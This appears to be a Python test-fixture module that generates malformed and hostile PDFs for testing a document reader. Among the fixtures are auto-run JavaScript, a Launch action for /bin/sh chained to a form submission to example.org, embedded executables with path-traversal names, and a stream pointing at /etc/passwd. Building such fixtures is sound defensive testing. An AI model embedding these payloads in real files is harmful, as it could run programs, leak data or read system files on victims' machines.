"""Files that are not what they seem, carry what nobody asked for, or are broken or locked."""

from __future__ import annotations

import io

from pypdf import PdfReader, PdfWriter

from scripts.hostile.pdf_pen import ReportPen, pdf_of, stream

_SCRIPT = b"app.launchURL('http://example.org/', true); this.exportDataObject({cName: 'x'});"


def empty() -> bytes:
    """No bytes."""
    return b""


def white_space_only() -> bytes:
    """Nothing but white space."""
    return b" \r\n\t" * 10_000


def web_page() -> bytes:
    """A web page, as servers send instead of a report that has moved."""
    body = b"<h1>Page not found</h1><script>alert(1)</script>"
    return b"<!DOCTYPE html>\n<html><body>%s</body></html>" % body


def web_page_with_a_mark() -> bytes:
    """A web page that mentions a PDF's mark in its first bytes: it is a PDF to some readers."""
    return b"<!-- %PDF-1.7 -->\n" + web_page()


def zip_archive() -> bytes:
    """The first bytes of an archive."""
    return b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + bytes(range(256)) * 40


def noise() -> bytes:
    """A PDF's mark and then bytes of no meaning."""
    return b"%PDF-1.7\n" + bytes((7 * step * step + 3 * step) % 256 for step in range(40_000))


def cut_in_half() -> bytes:
    """Half a download: the second page's words and all tables are missing."""
    whole = ReportPen("Halfmere").save()
    return whole[: whole.index(b"4 0 obj") + 900]


def without_its_table() -> bytes:
    """The file's own table of objects is missing, as after a broken download."""
    whole = ReportPen("Tailmere").save()
    return whole[: whole.rindex(b"xref\n0")]


def wrong_table() -> bytes:
    """Every place in the table of objects is off by some bytes."""
    whole = ReportPen("Tablemere").save()
    head, mark, table = whole.rpartition(b"xref\n0")
    head, mark, table = whole.partition(b"\nxref\n0")
    return head + mark + table.replace(b"0000000", b"0000077")


def trailer_that_is_a_number() -> bytes:
    """Where the file should tell its first object, it tells a number."""
    return ReportPen("Trailmere").save().replace(b"trailer\n<<", b"trailer\n-1")


def table_that_points_at_itself() -> bytes:
    """The table's forerunner is the table itself."""
    whole = ReportPen("Loopmere").save()
    place = whole.index(b"\nxref\n0") + 1
    return whole.replace(b"/Root 1 0 R", b"/Prev %d /Root 1 0 R" % place)


def runs_a_script() -> bytes:
    """JavaScript that would run when the file is opened, and when a page is."""
    pen = ReportPen("Scriptmere")
    objects = pen.objects()
    action = b"<< /S /JavaScript /JS (%s) >>" % _SCRIPT.replace(b"(", b"\\(").replace(b")", b"\\)")
    objects[0] = objects[0].replace(
        b"/Pages",
        b"/OpenAction %s /Names << /JavaScript << /Names [(a) %s] >> >> /Pages" % (action, action),
    )
    objects[2] = objects[2].replace(b"/Type /Page ", b"/Type /Page /AA << /O %s >> " % action)
    return pdf_of(objects)


def starts_a_program() -> bytes:
    """An action that would start a program, and one that would send the form away."""
    objects = ReportPen("Launchmere").objects()
    objects[0] = objects[0].replace(
        b"/Pages",
        b"/OpenAction << /S /Launch /F (/bin/sh) /Next << /S /SubmitForm"
        b" /F << /FS /URL /F (http://example.org/) >> >> >> /Pages",
    )
    return pdf_of(objects)


def carries_files() -> bytes:
    """A web page, a program and another report embedded in a report."""
    pen = ReportPen("Carriermere")
    objects = pen.objects()
    inner = ReportPen("Stowmere").save()
    first = len(objects) + 1
    files, names = [], b""
    for step, (name, content) in enumerate(
        [(b"page.html", web_page()), (b"run.exe", b"MZ" * 400), (b"report.pdf", inner)]
    ):
        files.append(stream(content, b"/Type /EmbeddedFile"))
        names += b"(%s) << /Type /Filespec /F (../../%s) /EF << /F %d 0 R >> >> " % (
            name,
            name,
            first + step,
        )
    objects[0] = objects[0].replace(
        b"/Pages", b"/Names << /EmbeddedFiles << /Names [%s] >> >> /Pages" % names
    )
    return pdf_of([*objects, *files])


def names_another_file() -> bytes:
    """A page whose content stands in another file, by an absolute path."""
    objects = ReportPen("Elsemere").objects()
    objects[5] = b"<< /Length 0 /F (/etc/passwd) /FFilter /FlateDecode >>\nstream\n\nendstream"
    return pdf_of(objects)


def locked_with_rc4() -> bytes:
    """RC4 with a user's password."""
    return _encrypted(ReportPen("Lockmere").save(), "RC4-128", "open sesame")


def locked_with_aes() -> bytes:
    """AES of 256 bits with a user's password."""
    return _encrypted(ReportPen("Lockmere").save(), "AES-256", "open sesame")


def protected_against_changes() -> bytes:
    """AES of 256 bits that any reader opens; only changing it needs a password."""
    return _encrypted(ReportPen("Ownermere").save(), "AES-256", "")


def unknown_lock() -> bytes:
    """An encryption that nobody has heard of."""
    whole = ReportPen("Oddmere").objects()
    lock = b"<< /Filter /Oddlock /V 9 /R 9 /Length 4096 /O (x) /U (y) /P 0 >>"
    return pdf_of(whole, b"/Encrypt %s /ID [(a) (b)]" % lock)


def _encrypted(data: bytes, algorithm: str, password: str) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(data)))
    writer.encrypt(password, "the owner's", algorithm=algorithm)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()
